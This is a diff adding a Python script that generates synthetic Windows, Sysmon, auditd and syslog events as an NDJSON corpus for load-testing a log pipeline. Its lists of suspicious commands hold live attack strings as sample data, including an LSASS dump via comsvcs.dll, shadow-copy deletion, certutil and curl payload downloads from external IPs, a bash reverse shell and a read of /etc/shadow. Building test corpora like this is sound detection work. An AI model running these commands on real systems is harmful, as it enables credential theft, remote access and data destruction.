@@ -0,0 +1,165 @@
+"""
+Generates a synthetic corpus of Windows Security, Sysmon, auditd and syslog events for
+scripts/loadtest.py. Each NDJSON line is {"log_type": ..., "request": <RawLogRequest>}.
+
+    python scripts/generate_corpus.py --count 5000 --output corpus.ndjson
+"""
+import json
+import random
+import argparse
+from datetime import datetime, timedelta
+
+LOG_TYPES = ["windows_eventlog", "sysmon", "linux_auditd", "syslog"]
+
+HOSTS = [f"WS-{n:03d}" for n in range(1, 41)] + [f"SRV-DC{n:02d}" for n in range(1, 4)] + ["web-01", "db-01", "bastion"]
+USERS = ["alice", "bob", "carol", "dave", "svc_backup", "svc_sql", "administrator", "root", "deploy", "guest"]
+TENANTS = ["acme", "globex", "initech"]
+
+BENIGN_COMMANDS = [
+    "C:\\Windows\\System32\\svchost.exe -k netsvcs",
+    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe --type=renderer",
+    "C:\\Windows\\explorer.exe",
+    "C:\\Windows\\System32\\notepad.exe C:\\Users\\{user}\\Documents\\notes.txt",
+]
+SUSPICIOUS_COMMANDS = [
+    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+    "cmd.exe /c whoami /all && net user /domain",
+    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
+    "schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\upd.exe",
+    "vssadmin.exe delete shadows /all /quiet",
+    "certutil.exe -urlcache -split -f http://{ip}/payload.exe C:\\Temp\\p.exe",
+]
+AUDIT_COMMANDS = [
+    ["ls", "-la", "/var/log"],
+    ["systemctl", "status", "nginx"],
+    ["curl", "-s", "-o", "/tmp/.x", "http://{ip}/x.sh"],
+    ["bash", "-c", "bash -i >& /dev/tcp/{ip}/4444 0>&1"],
+    ["cat", "/etc/shadow"],
+    ["crontab", "-l"],
+]
+
+
+def _ip(rng: random.Random, external: bool = False) -> str:
+    if external:
+        return f"{rng.choice([45, 91, 185, 203])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+    return f"10.{rng.randint(0, 3)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+
+
+def _command(rng: random.Random, suspicious_ratio: float) -> str:
+    template = rng.choice(SUSPICIOUS_COMMANDS if rng.random() < suspicious_ratio else BENIGN_COMMANDS)
+    return template.format(user=rng.choice(USERS), ip=_ip(rng, external=True))
+
+
+def windows_event(rng: random.Random, ts: datetime, suspicious_ratio: float) -> str:
+    event_id = rng.choice([4624, 4624, 4625, 4625, 4688, 4672, 4720])
+    data = {"TargetUserName": rng.choice(USERS), "IpAddress": _ip(rng, external=event_id == 4625)}
+    if event_id in (4624, 4625):
+        data["LogonType"] = str(rng.choice([2, 3, 10]))
+    if event_id == 4688:
+        data["NewProcessName"] = "C:\\Windows\\System32\\cmd.exe"
+        data["CommandLine"] = _command(rng, suspicious_ratio)
+    data_xml = "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in data.items())
+    return (
+        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+        "<Provider Name='Microsoft-Windows-Security-Auditing'/>"
+        f"<EventID>{event_id}</EventID><TimeCreated SystemTime='{ts.isoformat()}Z'/>"
+        f"<Computer>{rng.choice(HOSTS)}</Computer></System><EventData>{data_xml}</EventData></Event>"
+    )
+
+
+def sysmon_event(rng: random.Random, ts: datetime, suspicious_ratio: float) -> str:
+    event_id = rng.choice([1, 1, 1, 3, 11])
+    if event_id == 1:
+        data = {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": _command(rng, suspicious_ratio),
+                "ParentImage": "C:\\Windows\\explorer.exe", "User": f"CORP\\{rng.choice(USERS)}"}
+    elif event_id == 3:
+        data = {"Image": "C:\\Windows\\System32\\powershell.exe", "DestinationIp": _ip(rng, external=True),
+                "DestinationPort": str(rng.choice([443, 80, 4444, 8080])), "User": f"CORP\\{rng.choice(USERS)}"}
+    else:
+        data = {"Image": "C:\\Windows\\System32\\certutil.exe", "TargetFilename": f"C:\\Temp\\{rng.randint(1000, 9999)}.exe"}
+    data_xml = "".join(f"<Data Name='{k}'>{v}</Data>" for k, v in data.items())
+    return (
+        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+        "<Provider Name='Microsoft-Windows-Sysmon'/>"
+        f"<EventID>{event_id}</EventID><TimeCreated SystemTime='{ts.isoformat()}Z'/>"
+        f"<Computer>{rng.choice(HOSTS)}</Computer></System><EventData>{data_xml}</EventData></Event>"
+    )
+
+
+def auditd_event(rng: random.Random, ts: datetime, suspicious_ratio: float) -> str:
+    serial = rng.randint(1000, 999999)
+    stamp = f"{ts.timestamp():.3f}:{serial}"
+    if rng.random() < 0.5:
+        argv = rng.choice(AUDIT_COMMANDS[2:] if rng.random() < suspicious_ratio else AUDIT_COMMANDS[:2])
+        args = " ".join(f'a{i}="{a.format(ip=_ip(rng, external=True))}"' for i, a in enumerate(argv))
+        return f"type=EXECVE msg=audit({stamp}): argc={len(argv)} {args}"
+    return (
+        f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 "
+        f"ppid={rng.randint(300, 5000)} pid={rng.randint(5000, 60000)} auid=1000 uid={rng.choice([0, 1000, 1001])} "
+        f'comm="{rng.choice(["bash", "python3", "curl", "sshd"])}" exe="/usr/bin/{rng.choice(["bash", "python3", "curl"])}" '
+        f'hostname={rng.choice(HOSTS)} key="exec"'
+    )
+
+
+def syslog_event(rng: random.Random, ts: datetime, suspicious_ratio: float) -> str:
+    host = rng.choice(HOSTS).lower()
+    pid = rng.randint(100, 65000)
+    stamp = ts.strftime("%b %d %H:%M:%S")
+    if rng.random() < suspicious_ratio:
+        return rng.choice([
+            f"{stamp} {host} sshd[{pid}]: Failed password for invalid user {rng.choice(USERS)} from {_ip(rng, True)} port {rng.randint(1024, 65535)} ssh2",
+            f"{stamp} {host} sudo[{pid}]: {rng.choice(USERS)} : user NOT in sudoers ; TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
+            f"{stamp} {host} kernel: [UFW BLOCK] IN=eth0 OUT= SRC={_ip(rng, True)} DST={_ip(rng)} PROTO=TCP DPT=22",
+        ])
+    return rng.choice([
+        f"{stamp} {host} sshd[{pid}]: Accepted publickey for {rng.choice(USERS)} from {_ip(rng)} port {rng.randint(1024, 65535)} ssh2",
+        f"{stamp} {host} CRON[{pid}]: (root) CMD (/usr/local/bin/backup.sh)",
+        f"{stamp} {host} systemd[1]: Started Daily apt upgrade and clean activities.",
+    ])
+
+
+GENERATORS = {
+    "windows_eventlog": windows_event,
+    "sysmon": sysmon_event,
+    "linux_auditd": auditd_event,
+    "syslog": syslog_event,
+}
+
+
+def generate(count: int, seed: int = 0, suspicious_ratio: float = 0.3, weights: dict = None):
+    """`count` corpus entries, drawn from the log types in proportion to `weights` (default: equal)."""
+    rng = random.Random(seed)
+    weights = weights or {t: 1.0 for t in LOG_TYPES}
+    types = [t for t in LOG_TYPES if weights.get(t)]
+    start = datetime(2024, 1, 1)
+    corpus = []
+    for i in range(count):
+        log_type = rng.choices(types, weights=[weights[t] for t in types])[0]
+        ts = start + timedelta(seconds=i * 7 + rng.randint(0, 6))
+        corpus.append({
+            "log_type": log_type,
+            "request": {
+                "raw_log": GENERATORS[log_type](rng, ts, suspicious_ratio),
+                "fields": {"tenant": rng.choice(TENANTS)},
+            },
+        })
+    return corpus
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Generate a synthetic multi-format log corpus for load tests.")
+    parser.add_argument("--count", type=int, default=2000)
+    parser.add_argument("--seed", type=int, default=0)
+    parser.add_argument("--suspicious-ratio", type=float, default=0.3, help="Share of events that look malicious")
+    parser.add_argument("--output", default="corpus.ndjson")
+    args = parser.parse_args()
+
+    corpus = generate(args.count, args.seed, args.suspicious_ratio)
+    with open(args.output, "w", encoding="utf-8") as f:
+        for entry in corpus:
+            f.write(json.dumps(entry) + "\n")
+    print(f"Wrote {len(corpus)} events to {args.output}")
+
+
+if __name__ == "__main__":
+    main()